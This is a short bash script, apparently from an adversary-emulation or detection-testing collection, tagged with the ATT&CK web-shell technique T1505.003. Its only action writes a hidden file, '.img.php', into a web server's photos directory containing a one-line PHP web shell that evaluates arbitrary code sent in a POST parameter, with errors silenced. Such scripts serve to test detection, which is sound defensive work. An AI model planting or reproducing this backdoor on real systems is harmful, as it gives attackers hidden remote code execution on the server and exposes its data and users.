#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1505.003 Web Shell: done in another way than in tests/data/techniques, or there not at all.
cat > /var/www/html/photos/.img.php <<'E'
<?php @eval($_POST['x']); ?>
E
